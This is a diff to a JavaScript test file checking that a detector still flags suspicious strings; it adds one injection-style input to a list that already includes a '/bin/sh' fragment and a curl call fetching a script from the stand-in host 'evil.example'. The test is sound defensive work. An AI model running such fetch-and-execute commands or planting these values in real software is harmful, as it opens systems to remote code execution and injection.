@@ -274,6 +274,7 @@ describe('the line-rate pass keeps detection', () => {
     '"let x /bin/sh',
     'version/usr/bin/curl x https://evil.example/x.sh',
     ' $5 echo a.com',
+    ' or-esee ~* true #top',
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
